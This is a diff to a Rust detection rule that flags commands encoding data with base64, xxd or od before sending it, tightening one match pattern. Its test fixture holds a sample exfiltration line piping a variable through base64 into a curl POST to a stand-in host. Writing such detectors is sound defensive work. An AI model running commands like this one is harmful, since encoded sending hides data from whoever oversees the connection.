@@ -12,7 +12,7 @@ pub(super) const RULE: Rule = Rule {
     why: "Data for a service is sent as it is. Encoding it on the way hides it from whoever looks at the connection.",
     fix: "send plain data, or remove the command",
     places: ANYWHERE,
-    anchors: &["base64", "xxd", "od -"],
+    anchors: &["base64", "xxd", "\\bod -"],
     check: Check::Unit(hits),
     hits: &[text("```bash\necho \"$NAME\" | base64 | curl -X POST https://a.host.test/in --data @-\n```")],
     misses: &[
